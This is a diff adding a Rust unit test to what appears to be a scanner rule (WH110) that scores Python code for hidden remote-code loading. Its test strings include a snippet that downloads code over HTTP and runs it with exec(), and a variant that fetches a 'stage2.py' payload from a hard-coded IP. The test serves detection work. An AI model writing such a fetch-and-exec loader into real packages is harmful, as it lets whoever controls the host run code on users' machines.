@@ -1139,6 +1139,18 @@ mod tests {
     use crate::rules::testing::max_severity;
 
     #[test]
+    fn a_held_response_keeps_the_address_it_came_from() {
+        let configured = "import urllib3, dask\ndef setup():\n    url = dask.config.get('coiled.server') + '/api/preload'\n    with urllib3.PoolManager() as http:\n        response = http.request('GET', url)\n    exec(compile(response.data, url, 'exec'), {})\n";
+        let severity = max_severity("p/pkg/analytics.py", configured, "WH110");
+        assert!(severity <= 0.55, "{severity}");
+        let fixed = configured.replace(
+            "dask.config.get('coiled.server') + '/api/preload'",
+            "'https://198.51.100.7/stage2.py'",
+        );
+        assert!(max_severity("p/pkg/analytics.py", &fixed, "WH110") >= 0.9);
+    }
+
+    #[test]
     fn a_deserializer_runs_the_code_its_caller_hands_it() {
         let helper = "import base64, json\ndef deserialize_function(serialized):\n    payload = json.loads(base64.b64decode(serialized.encode('utf-8')))\n    ns = {}\n    exec(payload['source'], ns)\n    return ns[payload['name']]\n";
         let severity = max_severity("p/pkg/utils.py", helper, "WH110");
